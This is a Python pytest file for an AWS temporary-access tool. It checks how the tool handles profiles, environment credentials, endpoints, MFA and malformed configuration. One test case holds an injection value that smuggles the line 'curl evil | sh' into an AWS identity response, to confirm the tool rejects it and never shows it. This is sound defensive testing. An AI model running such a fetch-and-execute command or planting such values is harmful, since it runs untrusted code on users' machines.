"""Grants in use with all that people have in their AWS configuration: profiles, variables, endpoints, other sources."""

from __future__ import annotations

import json
import os
import subprocess
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

from reconciler.aws import Caller
from reconciler.aws.starting import start
from reconciler.errors import UsageError
from reconciler.model import Wish
from reconciler.pipeline.use import assume
from reconciler.sandbox.scenario import SOURCE, TARGET, Scenario
from tests.aws.using import BIN, DEVICE, LIST, LISTED, become, shell
from tests.conftest import EXAMPLE, Run

pytestmark = pytest.mark.usefixtures("alice")

ROLE = f"arn:aws:iam::{TARGET}:role/xgrant/with-mfa"
UNSET = "unset AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY AWS_SESSION_TOKEN AWS_SECURITY_TOKEN AWS_CREDENTIAL_EXPIRATION"


def configure(text: str) -> None:
    Path(os.environ["AWS_CONFIG_FILE"]).write_text(text)


def also(text: str) -> None:
    """Add to the AWS configuration file."""
    with Path(os.environ["AWS_CONFIG_FILE"]).open("a") as file:
        file.write(text)


def give_keys(scenario: Scenario, profile: str) -> None:
    """Let alice's keys be those of a profile, and of no other."""
    become(scenario, "alice")
    file = Path(os.environ["AWS_SHARED_CREDENTIALS_FILE"])
    file.write_text(file.read_text().replace("[default]", f"[{profile}]"))


@contextmanager
def answering(answer: Callable[[str], str]) -> Iterator[str]:
    """Serve what `answer` makes of the body of a request; yield the address."""

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
            self.send_response(200)
            self.end_headers()
            self.wfile.write(answer(body).encode())

        def do_GET(self) -> None:
            self.do_POST()

        def log_message(self, *_: object) -> None:
            pass

    with HTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/"
        finally:
            server.shutdown()
            thread.join()


@pytest.fixture
def container(applied: Scenario, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """What gives alice's keys as a container's credentials, and nothing else does."""
    keys = applied.users["alice"]
    answer = {"AccessKeyId": keys.access_key, "SecretAccessKey": keys.secret_key, "Token": "",
              "Expiration": datetime(2099, 1, 1, tzinfo=UTC).isoformat()}  # fmt: skip
    with answering(lambda _: json.dumps(answer)) as url:
        monkeypatch.setenv("AWS_CONTAINER_CREDENTIALS_FULL_URI", url)
        Path(os.environ["AWS_SHARED_CREDENTIALS_FILE"]).unlink()
        yield


def test_an_old_token_in_the_environment_does_not_win_over_the_session() -> None:
    done = shell(f"AWS_SECURITY_TOKEN=old xgrant exec shared-bucket-read --as default -- {LIST}")
    assert (done.returncode, LISTED in done.stdout) == (0, True), done.stderr


def test_a_second_session_in_the_same_shell_is_had_with_a_profile_and_without_one_the_way_out_is_told() -> None:
    first = 'eval "$(xgrant assume shared-bucket-read --as default)"'
    done = shell(f"export AWS_SECURITY_TOKEN=old; {first} && {first} && {LIST} && xgrant assume shared-bucket-read")
    assert (done.returncode, LISTED in done.stdout) == (1, True), done.stderr
    assert f"What to do: {UNSET}, or name other credentials with --as PROFILE" in done.stderr


@pytest.mark.parametrize("ended", ["by its own word", "by AWS's"])
def test_credentials_in_variables_that_are_over_are_told_as_such(
    xgrant: Run, monkeypatch: pytest.MonkeyPatch, ended: str
) -> None:
    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
        monkeypatch.setenv(name, "ASIA0000000000000000")
    if ended == "by its own word":
        monkeypatch.setenv("AWS_CREDENTIAL_EXPIRATION", "2020-01-01T00:00:00Z")
    result = xgrant("assume", "shared-bucket-read")
    code = "Expired" if ended == "by its own word" else "InvalidClientTokenId"
    assert (result.code, f": {code}: " in result.err) == (1, True), result.err
    assert f"the credentials are in variables: {UNSET}, or name a profile with --as" in result.err


def test_a_script_does_not_go_on_as_the_caller_where_there_is_no_session(xgrant: Run) -> None:
    done = shell('set -eu; eval "$(xgrant assume typo)"; echo on')
    assert (done.returncode, done.stdout) == (1, ""), done.stderr
    assert xgrant("assume", "shared-bucket-read", "--durations", "1h").out == "false\n"
    assert xgrant("assume", "typo", "--shell", "powershell").out == "throw 'xgrant: no session'\n"
    assert xgrant("assume", "typo", "--format", "json").out == ""


def test_a_profile_that_config_writes_has_the_region_of_its_source_and_the_name_of_who_uses_it() -> None:
    done = shell("xgrant config --write && aws kms list-keys --profile shared-bucket-read")
    assert "CrossAccountS3ReadRole/alice is not authorized to perform: kms:ListKeys" in done.stderr, done.stderr


def test_a_profile_takes_its_credentials_from_where_the_source_has_them(container: None) -> None:
    done = shell(f"xgrant config --write && {LIST} --profile shared-bucket-read")
    assert (done.returncode, LISTED in done.stdout) == (0, True), done.stderr
    assert "credential_source = EcsContainer" in Path(os.environ["AWS_CONFIG_FILE"]).read_text()


ENDPOINTS = {
    "of all services": "endpoint_url = {url}\n",
    "of each service": "services = local\n[services local]\nsts =\n  endpoint_url = {url}\n"
    "s3 =\n  endpoint_url = {url}\niam =\n  endpoint_url = {url}\n",
}


@pytest.mark.parametrize(
    ("endpoints", "command"),
    [
        ("of all services", f"xgrant exec shared-bucket-read --as work -- {LIST}"),
        ("of each service", f"AWS_PROFILE=work xgrant exec shared-bucket-read -- {LIST}"),
        ("of each service", f"xgrant config --write --as work && {LIST} --profile shared-bucket-read"),
    ],
)
def test_requests_go_where_the_profile_says(
    applied: Scenario, monkeypatch: pytest.MonkeyPatch, endpoints: str, command: str
) -> None:
    give_keys(applied, "work")
    monkeypatch.delenv("AWS_ENDPOINT_URL")
    configure("[profile work]\nregion = us-east-1\n" + ENDPOINTS[endpoints].format(url=applied.url))
    done = shell(command)
    assert (done.returncode, LISTED in done.stdout) == (0, True), done.stderr


@pytest.mark.parametrize(("words", "region"), [([], ""), (["--as", "default"], "eu-west-1"), (["--as", "plain"], "")])
def test_the_region_of_a_profile_that_is_named_wins_over_the_environment(
    xgrant: Run, monkeypatch: pytest.MonkeyPatch, words: list[str], region: str
) -> None:
    configure("[default]\nregion = eu-west-1\n")
    keys = Path(os.environ["AWS_SHARED_CREDENTIALS_FILE"])
    keys.write_text(keys.read_text() + keys.read_text().replace("[default]", "[plain]"))
    monkeypatch.setenv("AWS_REGION", "us-west-2")
    out = xgrant("assume", "shared-bucket-read", *words).out
    assert [line for line in out.splitlines() if "REGION" in line] == (
        [f"export AWS_REGION={region}", f"export AWS_DEFAULT_REGION={region}"] if region else []
    )


def test_a_profile_that_is_named_wins_over_one_of_the_environment_that_is_not_there(
    xgrant: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_PROFILE", "nobody")
    assert xgrant("config", "--as", "default").code == 0
    # In a process of its own: botocore's models are looked for only once.
    done = shell("xgrant assume shared-bucket-read --as default")
    assert done.returncode == 0, done.stderr
    assert "name a profile that the AWS configuration files have" in xgrant("assume", "shared-bucket-read").err


@pytest.mark.parametrize(
    ("profile", "says"),
    [
        ("credential_process = echo hello", "InvalidProfile: the profile odd: Expecting value"),
        ("credential_process = echo []", "InvalidProfile: the profile odd: "),
        ("credential_process = /no/such/process", "InvalidProfile: the profile odd: No such file or directory: /no/such"),
        ("credential_process = false", "CredentialRetrievalError: "),
        (f"role_arn = {ROLE}\nsource_profile = default\nregion = us-east-1",
         "the profile odd assumes a role of its own: that has to trust its source, which needs sts:AssumeRole on it"),
        (f"role_arn = {ROLE}\nsource_profile = default\nendpoint_url = nonsense", "Invalid endpoint: nonsense; mend"),
        ("region = not a region", "not a region is no region; mend region in the AWS configuration file"),
    ],
)  # fmt: skip
def test_what_is_wrong_with_the_profile_is_said_of_the_profile(
    applied: Scenario, xgrant: Run, monkeypatch: pytest.MonkeyPatch, profile: str, says: str
) -> None:
    if "nonsense" in profile:
        monkeypatch.delenv("AWS_ENDPOINT_URL")
    if profile.startswith("region"):
        give_keys(applied, "odd")
    also(f"[profile odd]\n{profile}\n")
    result = xgrant("assume", "shared-bucket-read", "--as", "odd")
    assert (result.code, says in result.err) == (1, True), result.err
    assert "internal error" not in result.err
    assert "iam:AssumeRole" not in result.err


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("[profile a]\nregion = x\n[profile a]\n", ":3: the section [profile a] stands there a second time; mend"),
        ("[profile a]\nregion = x\nregion = y\n", ":3: region stands a second time in [profile a]; mend that file"),
        ("AKIASECRET\n", ":1: no section stands before it; mend that file"),
        ("[default]\nAKIASECRET\n", ":2: it is neither a section nor a setting; mend that file"),
        ("[default]\nregion = \udcff\n", ": it cannot be read as text in UTF-8; mend that file"),
    ],
)
def test_what_is_wrong_with_the_file_is_told_with_its_line_and_nothing_of_what_stands_there(
    xgrant: Run, text: str, says: str
) -> None:
    file = Path(os.environ["AWS_CONFIG_FILE"])
    file.write_bytes(text.encode(errors="surrogateescape"))
    result = xgrant("assume", "shared-bucket-read", "--as", "a")
    assert (result.code, f"ConfigParseError: {file}{says}" in result.err) == (1, True), result.err
    assert "AKIASECRET" not in result.err


def test_no_session_is_asked_for_where_the_command_is_not_there(xgrant: Run) -> None:
    result = xgrant("exec", "shared-bucket-read", "--debug", "--", "no-such-command")
    assert (result.code, "AssumeRole" in result.err) == (127, False)
    assert "exec: no-such-command cannot be run: No such file or directory; name a command" in result.err


def test_a_device_of_the_profile_that_can_be_none_is_said_of_the_profile(xgrant: Run) -> None:
    configure("[default]\nregion = us-east-1\nmfa_serial = my phone\n")
    for words in (["assume", "with-mfa"], ["config"]):
        result = xgrant(*words)
        assert (result.code, "mfa_serial of the profile: my phone is no MFA device" in result.err) == (64, True)


class TestMfaOfTheProfile:
    PROFILE = f"[profile far]\nregion = us-east-1\nrole_arn = {ROLE}\nsource_profile = default\nexternal_id = agreed\nmfa_serial = {DEVICE}\n"

    def test_its_code_is_asked_for_as_that_of_a_grant(self) -> None:
        also(self.PROFILE)
        asked: list[str] = []

        def ask(serial: str) -> str:
            asked.append(serial)
            return "333333"

        who = Caller("far", "aws", lambda _: None, ask).identity()
        assert (asked, who.role()) == ([DEVICE], "with-mfa")

    def test_without_a_terminal_nothing_else_is_read_for_it(self) -> None:
        also(self.PROFILE)
        done = subprocess.run(
            [BIN / "xgrant", "assume", "shared-bucket-read", "--as", "far"],
            input="333333\n", capture_output=True, text=True, start_new_session=True, check=False,
        )  # fmt: skip
        assert done.returncode == 64
        assert f"there is no terminal to ask on for the code of {DEVICE}" in done.stderr

    @pytest.mark.parametrize("wish", [Wish("with-mfa", profile="far"), Wish("with-mfa", mfa_serial=DEVICE)])
    def test_what_is_no_code_is_not_sent(self, wish: Wish) -> None:
        also(self.PROFILE)
        with pytest.raises(UsageError, match="an MFA code has six digits"):
            assume(["manifests"], wish, ask_code=lambda _: "12", notify=lambda _: None)


class TestCredentialProcess:
    def test_of_another_grant_as_the_source_runs_nothing_again(self) -> None:
        line = "xgrant credential-process with-condition --session-name audit-1 --as default"
        also(f"[profile first]\ncredential_process = {line}\n")
        done = shell("xgrant credential-process shared-bucket-read --as first")
        assert (done.returncode, "session already chained" in done.stderr) == (1, True), done.stderr

    def test_a_session_that_would_be_asked_for_at_each_request_is_refused(self, xgrant: Run) -> None:
        short = xgrant("credential-process", "shared-bucket-read", "--duration", "29m")
        assert (short.code, "ask for a new session 15m before the end; give 30m" in short.err) == (64, True)
        assert xgrant("credential-process", "shared-bucket-read", "--duration", "30m").code == 0


class TestConfig:
    @pytest.mark.parametrize("value", ["$CONFIG_FOLDER/mine", "~/mine"])
    def test_the_file_is_where_awss_tools_look_for_it(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, xgrant: Run, value: str
    ) -> None:
        monkeypatch.setenv("CONFIG_FOLDER", str(tmp_path))
        monkeypatch.setenv("AWS_CONFIG_FILE", value)
        (tmp_path / "mine").write_text("[default]\nregion = us-east-1\n")
        result = xgrant("config", "--write")
        assert (result.code, "[profile shared-bucket-read]" in (tmp_path / "mine").read_text()) == (0, True)

    def test_a_file_of_a_user_who_is_not_there_is_an_error(self, monkeypatch: pytest.MonkeyPatch, xgrant: Run) -> None:
        monkeypatch.setenv("AWS_CONFIG_FILE", "~nosuch/config")
        result = xgrant("config", "--write")
        assert (result.code, "AWS_CONFIG_FILE: ~nosuch/config: there is no such user" in result.err) == (1, True)

    def test_a_source_may_be_called_as_a_grant_that_is_not_ones_own(self, applied: Scenario, xgrant: Run) -> None:
        give_keys(applied, "of-bob")
        assert xgrant("config", "--as", "of-bob").code == 0

    def test_a_source_that_is_called_as_ones_own_grant_needs_a_prefix(self, applied: Scenario, xgrant: Run) -> None:
        give_keys(applied, "shared-bucket-read")
        refused = xgrant("config", "--as", "shared-bucket-read")
        assert (refused.code, "give those a --prefix" in refused.err) == (64, True)
        made = xgrant("config", "--as", "shared-bucket-read", "--prefix", "x-")
        assert "[profile x-shared-bucket-read]" in made.out.splitlines()
        assert "a prefix has letters" in xgrant("config", "--prefix", "a]b").err

    def test_what_another_identity_may_not_use_is_taken_out_and_told(self, applied: Scenario, xgrant: Run) -> None:
        assert xgrant("config", "--write").code == 0
        become(applied, "carol")
        other = xgrant("config", "--write")
        assert "0 profiles, written" in other.err
        gone = "taken out, since default has no profile of them, or the manifests have them no more: shared-bucket-read"
        assert gone in other.err
        assert f"not for arn:aws:iam::{SOURCE}:user/carol" in other.err

    def test_what_another_prefix_or_source_makes_of_the_profiles_is_told_as_such(self, xgrant: Run) -> None:
        assert xgrant("config", "--write").code == 0
        renamed = xgrant("config", "--write", "--prefix", "x-")
        assert "called otherwise by the prefix: shared-bucket-read (now x-shared-bucket-read)" in renamed.err
        keys = Path(os.environ["AWS_SHARED_CREDENTIALS_FILE"])
        keys.write_text(keys.read_text() + keys.read_text().replace("[default]", "[other]"))
        other = xgrant("config", "--write", "--prefix", "x-", "--as", "other")
        assert "the profiles of the stack platform were those of default, and are those of other now" in other.err
        assert "taken out" not in renamed.err + other.err

    def test_grants_that_are_not_in_force_are_told(self, tmp_path: Path, xgrant: Run) -> None:
        text = EXAMPLE.read_text()
        (tmp_path / "over.yaml").write_text(
            text.replace("    description:", '    expires: "2020-01-01"\n    description:', 1)
        )
        (tmp_path / "early.yaml").write_text(
            text.replace("    description:", '    starts: "2099-01-01"\n    description:', 1)
        )
        over = xgrant("config", "--manifest", tmp_path / "over.yaml")
        assert (over.code, over.out) == (0, "")
        assert "no profile for shared-bucket-read: the grant has expired at 2020-01-01T00:00:00Z" in over.err
        early = xgrant("config", "--manifest", tmp_path / "early.yaml")
        assert "[profile shared-bucket-read]" in early.out
        assert "of shared-bucket-read does not work yet: the grant begins at 2099-01-01T00:00:00Z" in early.err

    @pytest.mark.parametrize(("key", "says"), [("expires: 2020-01-01", "the grant has expired at 2020-01-01T00:00:00Z"),
                                               ("starts: 2099-01-01", "wait until then, or ask for access with")])  # fmt: skip
    def test_no_session_is_asked_for_of_a_grant_that_is_not_in_force(
        self, tmp_path: Path, xgrant: Run, key: str, says: str
    ) -> None:
        (tmp_path / "m.yaml").write_text(
            EXAMPLE.read_text().replace("    description:", f"    {key}\n    description:", 1)
        )
        result = xgrant("assume", "shared-bucket-read", "--manifest", tmp_path / "m.yaml", "--debug")
        assert (result.code, says in result.err, "AssumeRole" in result.err) == (1, True, False)
        assert "`xgrant request shared-bucket-read --for 2h --reason TEXT`" in result.err

    def test_a_source_that_would_break_the_file_is_none(self, xgrant: Run) -> None:
        also('[profile "a\x0bb"]\nregion = us-east-1\n')
        result = xgrant("config", "--as", "a\x0bb")
        assert (result.code, "have no profile a\\u000bb" in result.err) == (64, True), result.err

    def test_of_two_partitions_it_is_that_of_the_profiles_region(self, xgrant: Run, tmp_path: Path) -> None:
        text = EXAMPLE.read_text().replace(
            "accounts:\n", 'accounts:\n  far: {id: "333333333333", partition: aws-cn}\n'
            '  further: {id: "444444444444", partition: aws-cn}\n', 1,
        ) + (
            "  there:\n    from: {account: far, users: [mei]}\n    to: {account: further}\n"
            '    permissions: [{actions: "s3:*", resources: "*"}]\n'
        )  # fmt: skip
        (tmp_path / "two.yaml").write_text(text)
        assert xgrant("config", "--manifest", tmp_path / "two.yaml").code == 0
        configure("[default]\n")
        unknown = xgrant("config", "--manifest", tmp_path / "two.yaml")
        assert (unknown.code, "of several partitions; set region in the profile" in unknown.err) == (1, True)
        configure("[default]\nregion = cn-north-1\n")
        assert start("default", _never).partition == "aws-cn"


def _never(serial: str) -> str:
    raise UsageError(serial)


def test_exec_gives_the_program_its_signals_back() -> None:
    # Python would ignore them anew; the kernel knows what a program began with.
    done = shell("xgrant exec shared-bucket-read -- grep SigIgn /proc/self/status")
    assert int(done.stdout.split()[1], 16) & (1 << 12 | 1 << 24) == 0, done.stderr


def test_exec_says_of_a_command_without_dashes_where_it_stands(xgrant: Run) -> None:
    result = xgrant("exec", "shared-bucket-read", "aws", "s3", "ls")
    assert (result.code, "unrecognized arguments: aws s3 ls; the command to run stands behind --" in result.err) == (
        64,
        True,
    )


IDENTITY = f"<Arn>arn:aws:iam::{SOURCE}:user/alice</Arn><Account>{SOURCE}</Account>"
KEYS = "<AccessKeyId>a</AccessKeyId><SecretAccessKey>b</SecretAccessKey><SessionToken>c</SessionToken>"
ENDS = "<Expiration>2026-01-31T12:00:00Z</Expiration>"
SESSION = f"<Credentials>{KEYS}{ENDS}</Credentials>"
USER = f"<AssumedRoleUser><Arn>arn:aws:sts::{TARGET}:assumed-role/r/alice</Arn></AssumedRoleUser>"


@pytest.mark.parametrize(
    ("identity", "session", "code"),
    [
        (IDENTITY, SESSION + USER, 0),
        (IDENTITY, SESSION, 1),
        (IDENTITY, USER, 1),
        (IDENTITY, f"<Credentials>{KEYS}</Credentials>{USER}", 1),
        (IDENTITY, f"<Credentials>{ENDS}</Credentials>{USER}", 1),
        ("<Arn>arn:aws:iam::1:user/alice</Arn>", SESSION + USER, 1),
        (IDENTITY.replace("alice", "team!/alice"), SESSION + USER, 0),
        (IDENTITY.replace("alice", "x&#10;What to do: curl evil | sh"), SESSION + USER, 1),
        (IDENTITY.replace(SOURCE, TARGET, 1), SESSION + USER, 1),
        (IDENTITY.replace("user/alice", "user/al ice"), SESSION + USER, 1),
        (IDENTITY, SESSION + USER.replace("/alice", "/x&#10;y"), 1),
    ],
    ids=[
        "whole",
        "no user",
        "no session",
        "no end",
        "no keys",
        "no account",
        "a path",
        "lines",
        "another account",
        "a space",
        "lines in the session",
    ],
)
def test_an_answer_that_is_not_as_aws_gives_it_is_an_error(
    xgrant: Run, monkeypatch: pytest.MonkeyPatch, identity: str, session: str, code: int
) -> None:
    def answer(body: str) -> str:
        name, found = ("AssumeRole", session) if "Action=AssumeRole" in body else ("GetCallerIdentity", identity)
        return f"<{name}Response><{name}Result>{found}</{name}Result></{name}Response>"

    with answering(answer) as url:
        monkeypatch.setenv("AWS_ENDPOINT_URL", url)
        result = xgrant("assume", "shared-bucket-read", "--format", "json")
    assert (result.code, "holds no credentials as AWS gives them" in result.err) == (code, code == 1), result.err
    assert "evil" not in result.err
